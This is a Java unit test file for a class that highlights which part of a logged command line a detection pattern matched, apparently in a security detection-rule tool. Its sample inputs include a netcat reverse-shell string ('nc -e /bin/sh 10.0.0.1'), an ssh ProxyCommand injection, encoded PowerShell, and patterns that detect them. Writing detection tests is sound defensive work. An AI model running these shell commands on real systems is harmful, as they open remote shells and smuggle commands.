package io.detectionhub.evaluate.web;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

import java.util.List;

class HighlightedValueTest {

    @Test
    void marksTheLiteralCoreOfAContainsPatternCaseInsensitively() {
        HighlightedValue v = HighlightedValue.of("ssh -o proxycommand=;bash x", "*ProxyCommand=;*", List.of("contains"));
        assertThat(v).isEqualTo(new HighlightedValue("ssh -o ", "proxycommand=;", "bash x"));
    }

    @Test
    void marksTheLongestLiteralOfAWildcardPatternAndResolvesEscapes() {
        assertThat(HighlightedValue.longestLiteral("*\\\\temp\\*x*powershell.exe")).isEqualTo("powershell.exe");
        assertThat(HighlightedValue.longestLiteral("a\\*bcdef?g")).isEqualTo("a*bcdef");
        HighlightedValue v = HighlightedValue.of("C:\\Windows\\PowerShell.exe -enc", "*\\powershell.exe", List.of());
        assertThat(v.hit()).isEqualTo("\\PowerShell.exe");
    }

    @Test
    void casedPatternsOnlyMarkExactCase() {
        assertThat(HighlightedValue.of("abc ABC", "ABC", List.of("contains", "cased")).before()).isEqualTo("abc ");
    }

    @Test
    void regexMarksItsMatch() {
        HighlightedValue v = HighlightedValue.of("nc -e /bin/sh 10.0.0.1", "nc(at)? -e", List.of("re"));
        assertThat(v).isEqualTo(new HighlightedValue("", "nc -e", " /bin/sh 10.0.0.1"));
        assertThat(HighlightedValue.of("NC -E", "nc -e", List.of("re", "i")).hit()).isEqualTo("NC -E");
        assertThat(HighlightedValue.of("x", "(?<=a)b", List.of("re")).hit()).isEqualTo("x");
    }

    @Test
    void unlocatableMatchesMarkTheWholeValue() {
        assertThat(HighlightedValue.of("SGVsbG8gd29ybGQ=", "Hello", List.of("base64", "contains")).hit())
                .isEqualTo("SGVsbG8gd29ybGQ=");
        assertThat(HighlightedValue.of("10.1.2.3", "10.0.0.0/8", List.of("cidr")).hit()).isEqualTo("10.1.2.3");
        assertThat(HighlightedValue.of(null, "x", List.of())).isEqualTo(new HighlightedValue("", "", ""));
    }
}
